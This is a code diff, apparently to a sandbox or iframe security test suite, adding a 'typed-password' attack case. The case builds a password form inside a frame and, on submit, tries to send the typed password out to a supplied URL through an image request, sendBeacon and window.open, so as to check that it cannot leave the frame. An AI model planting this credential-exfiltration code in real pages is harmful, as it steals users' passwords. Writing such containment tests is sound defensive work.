@@ -47,4 +47,28 @@ export const PERSON: readonly Attack[] = [
       return callHost(['save'], file, 'hostile.txt').then(() => undefined);
     },
   },
+  {
+    // The password itself is for the code to read; what counts is that it can't leave the frame.
+    name: 'typed-password',
+    withoutPress: true,
+    run: ({ url }) => {
+      const form = document.createElement('form');
+      Object.assign(form, { action: `${url}/a.html`, method: 'post' });
+      const password = Object.assign(document.createElement('input'), { type: 'password', name: 'password' });
+      form.append(password, document.createElement('button'));
+      form.addEventListener('submit', () => {
+        const carried = `${url}?${encodeURIComponent(password.value)}`;
+        new Image().src = carried;
+        navigator.sendBeacon(carried);
+        window.open(carried);
+      });
+      document.body.append(form);
+    },
+    visit: async (page) => {
+      const password = page.frameLocator('iframe').locator('[name="password"]');
+      await password.fill('a password', { timeout: 10_000 });
+      await password.press('Enter');
+      return false;
+    },
+  },
 ];
